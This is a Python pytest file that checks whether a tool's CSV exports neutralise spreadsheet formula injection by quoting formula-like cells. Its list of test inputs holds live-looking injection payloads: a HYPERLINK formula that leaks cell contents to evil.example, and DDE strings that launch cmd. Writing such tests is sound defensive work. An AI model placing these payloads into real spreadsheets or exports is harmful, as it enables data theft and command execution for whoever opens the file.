"""Spreadsheet formulas never reach a CSV we write: every CSV goes through ``model.csv_table``.

The producers: ``tau-tui export --format csv`` (every table), ``tau-tui notes export --format csv`` (to a file and
to stdout) and the TUI's notes export (``model.notes.export_csv``, as a file or a browser download). Each is fed
formula-like text where untrusted text reaches it (review reasoning copied by ``notes from-review``, simulation and
task ids, model names, messages) and read back with the csv module.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from pathlib import Path

import pytest

from tau_tui.cli import main
from tau_tui.model.csv_table import csv_text, is_formula_like, spreadsheet_safe
from tau_tui.model.notes import CSV_COLUMNS, NoteBook, export_csv
from tests.conftest import ROOT
from tests.helpers import call, greet, result, results_file, say, user
from tests.review_fixtures import full_review, review_error, reviewed_run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\uff1d1+1",  # a full-width equals sign
]
PLAIN = ["hello", "", "a = b", "user@example.com", "x-1", "'already quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    assert is_formula_like(text) and spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, 5, -2.5, True, None])
def test_other_cells_are_kept(value: str | float | bool | None) -> None:
    assert spreadsheet_safe(value) == value


def read_csv_text(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def assert_no_live_formula(rows: list[list[str]], where: str) -> None:
    """No cell a spreadsheet would run (a number such as -1 is a number); formula-like text is quoted."""
    for row in rows:
        for cell in row:
            assert NUMBER.fullmatch(cell) or not is_formula_like(cell), (where, cell)


def test_csv_text_guards_every_cell_and_the_header() -> None:
    text = csv_text(["=a", "b"], [{"=a": text, "b": -1} for text in FORMULAS])
    rows = read_csv_text(text)
    assert_no_live_formula(rows, "csv_text")
    assert rows[0] == ["'=a", "b"] and [r[0] for r in rows[1:]] == ["'" + t for t in FORMULAS]
    assert [r[1] for r in rows[1:]] == ["-1"] * len(FORMULAS)  # a number is not text a spreadsheet runs


@pytest.mark.parametrize("inside", ["\r", "\n", "\r\n"])
def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula(inside: str) -> None:
    cell = f"fine{inside}=HYPERLINK(1)"
    rows = read_csv_text(csv_text(["a", "b"], [{"a": cell, "b": "x"}]))
    assert rows == [["a", "b"], [cell, "x"]]


def reviewed_with_formulas(tmp_path: Path) -> Path:
    """A reviewed run whose review errors' reasoning is formula-like (no severity, tags or turn: the note's text
    is the reasoning as it stands)."""
    folder = reviewed_run(tmp_path, keep=4)
    path = folder / "results_reviewed.json"
    data = json.loads(path.read_text())
    data["simulations"][0]["review"] = full_review(
        [review_error("agent", None, [], None, text) for text in FORMULAS[:4]], summary="formulas"
    )
    path.write_text(json.dumps(data))
    return path


def test_notes_from_review_then_notes_export_csv_quotes_the_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = reviewed_with_formulas(tmp_path)
    assert main(["notes", "from-review", str(path)]) == 0
    texts = {n.text for n in NoteBook(path).notes}
    assert texts >= set(FORMULAS[:4])  # the notes keep the review's words as they are
    capsys.readouterr()
    out = tmp_path / "notes.csv"
    assert main(["notes", "export", str(path), "--format", "csv", "--out", str(out)]) == 0
    assert main(["notes", "export", str(path), "--format", "csv"]) == 0
    printed = capsys.readouterr().out
    for where, text in (("file", out.read_text()), ("stdout", printed)):
        rows = read_csv_text(text)
        assert_no_live_formula(rows, where)
        header = rows[0]
        assert header == list(CSV_COLUMNS)
        column = header.index("text")
        assert {r[column] for r in rows[1:]} >= {"'" + t for t in FORMULAS[:4]}, where
        assert len(rows) == len(texts) + 1, where
    # JSON keeps the text as it was
    assert main(["notes", "export", str(path), "--format", "json"]) == 0
    assert {n["text"] for n in json.loads(capsys.readouterr().out)} == texts


def test_the_tuis_notes_export_quotes_the_formulas(tmp_path: Path) -> None:
    """What the notes screen writes (or sends to the browser): ``export_csv`` of the rows shown."""
    path = reviewed_with_formulas(tmp_path)
    book = NoteBook(path)
    for text in FORMULAS:
        book.add("hand-" + text[:3], "agent", "other", text)
    rows = [{"recording": "=evil.json", **n.model_dump(mode="json")} for n in NoteBook(path).notes]
    parsed = read_csv_text(export_csv(rows))
    assert_no_live_formula(parsed, "notes screen export")
    assert {r[0] for r in parsed[1:]} == {"'=evil.json"}


def test_every_table_of_a_csv_export_quotes_the_formulas(
    tau2_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    task = {
        "id": "@SUM(1)",
        "user_scenario": {"instructions": "Ask to finish task_1."},
        "evaluation_criteria": {
            "actions": [
                {
                    "action_id": "-a1",
                    "name": "update_task_status",
                    "arguments": {"task_id": "task_1", "status": "completed"},
                }
            ],
            "reward_basis": ["DB", "ACTION"],
        },
    }
    messages = [
        greet(),
        user(FORMULAS[0]),
        call("update_task_status", {"task_id": "task_1", "status": "completed"}),
        result({"task_id": "task_1", "title": "Test task", "description": "A test task", "status": "completed"}),
        say(FORMULAS[1]),
        user(FORMULAS[4]),
        say(FORMULAS[7]),  # spaces before the sign
        user("fine\r=HYPERLINK(1)"),  # a carriage return inside a cell must not start a row
    ]
    path = results_file(tmp_path / "run.json", messages, task=task, sim_id="=HYPERLINK(1)")
    data = json.loads(path.read_text())
    data["info"]["agent_info"]["llm"] = "+cmd|' /C calc'!A0"
    data["info"]["user_info"]["implementation"] = "-user"
    data["timestamp"] = "=NOW()"
    path.write_text(json.dumps(data))
    NoteBook(path).add("=HYPERLINK(1)", "agent", "other", FORMULAS[3], author="@me")
    out = tmp_path / "csv"
    code = main(["export", "--tau2-data", str(tau2_data), str(path), "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    written = sorted(out.glob("*.csv"))
    assert [p.stem for p in written] == sorted(
        ["runs", "simulations", "messages", "tool_calls", "checks", "grid", "notes"]
    )
    for table in written:
        rows = read_csv_text(table.read_text())
        assert len(rows) > 1, table.name
        assert_no_live_formula(rows, table.name)
    sims = read_csv_text((out / "simulations.csv").read_text())
    assert sims[1][sims[0].index("sim_id")] == "'=HYPERLINK(1)"
    assert sims[1][sims[0].index("task_id")] == "'@SUM(1)"
    runs = read_csv_text((out / "runs.csv").read_text())
    assert runs[1][runs[0].index("agent_model")] == "'+cmd|' /C calc'!A0"


def test_only_the_one_csv_writer_makes_csv() -> None:
    """No module of ours but ``model/csv_table.py`` calls ``csv.writer`` or ``csv.DictWriter``."""
    writers = []
    for source in sorted((ROOT / "tau_tui").rglob("*.py")):
        tree = ast.parse(source.read_text(), str(source))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    writers.append(source.relative_to(ROOT).as_posix())
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                if any(a.name in ("writer", "DictWriter") for a in node.names):
                    writers.append(source.relative_to(ROOT).as_posix())
    assert writers == ["tau_tui/model/csv_table.py"]
